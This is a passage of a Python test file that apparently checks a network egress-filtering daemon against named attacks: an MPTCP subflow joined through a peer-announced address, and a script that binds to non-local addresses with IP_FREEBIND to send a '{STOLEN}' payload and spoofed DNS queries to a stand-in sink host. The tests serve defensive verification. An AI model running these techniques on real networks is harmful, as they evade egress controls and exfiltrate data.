    "has its kernel join a connection from outside by another path (MPTCP), to an address that whoever began it announces",
    stopped_by="kernel",
)
def test_path_that_a_peer_announces(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """Who had CAP_NET_ADMIN before has had it accept such addresses."""
    box.check("ip", "mptcp", "limits", "set", "subflows", "8", "add_addr_accepted", "8")
    internet.namespace.check("ip", "mptcp", "limits", "set", "subflows", "8", "add_addr_accepted", "8")
    internet.namespace.check("ip", "mptcp", "endpoint", "add", plan.SINK4, "port", "5001", "signal")
    listening = Child(box.command(*BARE, PYTHON, "-c", ANSWERING), "listening")

    def joins() -> bool:
        with internet.capture(f"tcp and dst host {plan.SINK4}", unenforced=True) as outside:
            done = subprocess.run(internet.namespace.command(PYTHON, "-c", PEER, OUTSIDE4, INSIDE4), timeout=30)
        assert done.returncode == 0, "the connection itself goes on"
        return any("Flags [S]" in line and INSIDE4 in line for line in outside.lines)

    try:
        assert joins(), "without rules"
        daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
        assert not joins()
    finally:
        listening.stop()
        internet.namespace.check("ip", "mptcp", "endpoint", "flush")
        internet.namespace.check("ip", "mptcp", "limits", "set", "subflows", "2", "add_addr_accepted", "0")


# Answers to somebody else

IN_ANOTHERS_NAME = f"""\
import socket, sys
QUERY = bytes.fromhex("123401000001000000000000") + b"".join(bytes([len(l)]) + l.encode() for l in "{plan.ALLOWED}".split("."))
QUERY += bytes(1) + bytes.fromhex("00010001")
PLACES = {{
    socket.AF_INET: ("{plan.DENIED4}", "{plan.DNS4}", "{plan.SINK4}", "{plan.SHARED4}", 0, 15),  # IP_FREEBIND
    socket.AF_INET6: ("{plan.DENIED6}", "{plan.DNS6}", "{plan.SINK6}", "{plan.SHARED6}", 41, 78),  # IPV6_FREEBIND
}}
for family, (own, resolver, sink, web, level, option) in PLACES.items():
    def speaking(kind):
        s = socket.socket(family, kind)
        s.setsockopt(level, option, 1)
        s.settimeout(0.5)
        s.bind((own, 5353 if kind == socket.SOCK_DGRAM else 0))
        return s
    for kind, place, data in (
        (socket.SOCK_DGRAM, (resolver, 53), QUERY),
        (socket.SOCK_DGRAM, (sink, 4444), b"{STOLEN}"),
        (socket.SOCK_DGRAM, (sink, 4445), b"{STOLEN}"),
        (socket.SOCK_STREAM, (resolver, 53), QUERY),
        (socket.SOCK_STREAM, (web, 443), b"{STOLEN}"),
    ):
        with speaking(kind) as s:
            try:
                s.connect(place)
                s.send(data)
            except OSError as error: print(place, error)
print("tried everything")
"""


@pytest.mark.attack(
    "T12 B1",
    "speaks with what answers it (resolver, relay, proxy) in the name of somebody outside, so that the answers go there",
    stopped_by="kernel",
)
def test_answers_to_somebody_else(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """Nobody needs a privilege to bind a socket to an address that is not the machine's (IP_FREEBIND); over IPv4 it sends nothing
    without."""
    rule = {"target": plan.SINK, "protocol": "any", "ports": [4444]}
    resolve = f"getent ahosts {plan.SINK}; getent ahosts {plan.ALLOWED}; "
    command = box.command("/bin/sh", "-c", resolve + 'exec "$@"', "sh", *BARE, PYTHON, "-c", IN_ANOTHERS_NAME)

    def heard() -> list[str]:
        with internet.capture(f"host {plan.DENIED4} or host {plan.DENIED6}", unenforced=True) as outside:
            done = subprocess.run(command, capture_output=True, text=True, timeout=60)
        assert "tried everything" in done.stdout, done
        return outside.lines

    without = heard()
    assert any(plan.DENIED6 in line for line in without), without
    daemon.create(allowing(plan.ALLOWED, rule), attachment=attachment(box))
    assert heard() == []
